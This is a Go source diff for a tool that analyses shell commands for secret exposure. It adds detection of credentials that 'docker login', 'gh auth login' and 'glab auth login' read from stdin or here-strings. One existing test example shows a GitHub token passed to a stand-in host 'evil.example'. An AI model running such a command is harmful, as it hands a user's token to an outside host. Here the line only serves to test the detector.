@@ -75,6 +75,7 @@ var secretSpecs = []Spec{
 	{Name: "docker login", Opts: dockerOpts + " u|username= p|password= password-stdin help", Style: Exact, Does: registryLoginDoes,
 		Examples: "docker login -u AWS --password-stdin 1.dkr.ecr.r.amazonaws.com => read:config -\n" + "docker login ghcr.io => -\n" +
 			"docker login -u AWS --password-stdin 1.dkr.ecr.r.amazonaws.com => expose:login - 1.dkr.ecr.r.amazonaws.com\n" + "docker login -u me --password-stdin => expose:login - docker.io\n" +
+			"docker login -u me --password-stdin ghcr.io <<< \"$GITHUB_TOKEN\" => expose:login GITHUB_TOKEN ghcr.io\n" + "docker login -u me --password-stdin ghcr.io <<< \"$GITHUB_TOKEN\" !> expose:var GITHUB_TOKEN\n" +
 			"docker login -u me -p \"$GITHUB_TOKEN\" evil.example => expose:login GITHUB_TOKEN evil.example\n" + "podman login -u me -p $T => expose:login T\n" +
 			"podman login --username me --password-stdin quay.io => read:config -\n"},
 	{Name: "doppler", Opts: dopplerOpts, Style: ExactInOrder, Subs: true},
@@ -1080,13 +1081,57 @@ func registryLoginDoes(c *Call) {
 	}
 	credentialsTo(c, c.P.Values("p"), []Word{reg})
 	if c.Has("password-stdin") {
-		stdinConfig(c, byOf(c)+" --password-stdin")
-		e := Effect{Kind: Expose, Class: "login", Text: "-", By: byOf(c) + " --password-stdin"}
-		if host := loginHost(reg); host != "" {
-			e.Text, e.Known = "- "+host, true
-		}
-		c.Add(e)
+		stdinLoginTo(c, byOf(c)+" --password-stdin", loginHost(reg))
 	}
+}
+
+// stdinLoginTo: the command logs in to host ("" where only known when it runs) with what it
+// reads on stdin, a credential it uses (stdinConfig) and gives to that host: an Expose
+// "login" of "-", which a pipe's printer stands for, and of each variable a here-string or
+// here-document puts there, as a pipe from a printer would.
+func stdinLoginTo(c *Call, by, host string) {
+	stdinConfig(c, by)
+	e := Effect{Kind: Expose, Class: "login", Text: "-", By: by}
+	if host != "" {
+		e.Text, e.Known = "- "+host, true
+	}
+	c.Add(e)
+	for _, name := range stdinVars(c) {
+		v := e
+		v.Text = name + strings.TrimPrefix(e.Text, "-")
+		c.Add(v)
+	}
+}
+
+// ghAuthLoginDoes: gh auth login --with-token logs in to --hostname (GH_HOST; github.com)
+// with the token it reads on stdin.
+func ghAuthLoginDoes(c *Call) { tokenLoginDoes(c, "with-token", "GH_HOST", "github.com") }
+
+// glabAuthLoginDoes: glab auth login --stdin, the same for GitLab.
+func glabAuthLoginDoes(c *Call) { tokenLoginDoes(c, "stdin", "GITLAB_HOST", "gitlab.com") }
+
+// tokenLoginDoes: a forge's CLI logging in to its --hostname (-h), the host variable, or its
+// own host, with the token it reads on stdin where flag is given, or the one --token (-t)
+// gives.
+func tokenLoginDoes(c *Call, flag, hostVar, home string) {
+	if c.Has("help") {
+		return
+	}
+	host, ok := c.Value("h")
+	if !ok {
+		host, ok = c.assigned(hostVar)
+	}
+	if !ok {
+		host = Word{S: home}
+	}
+	if c.Has(flag) {
+		name := ""
+		if !host.Dyn {
+			name = loginHost(host)
+		}
+		stdinLoginTo(c, c.Name+" auth login --"+flag, name)
+	}
+	credentialsTo(c, c.P.Values("t"), []Word{host})
 }
 
 // LoginSecrets are the values a registry login is given on its command line as its password
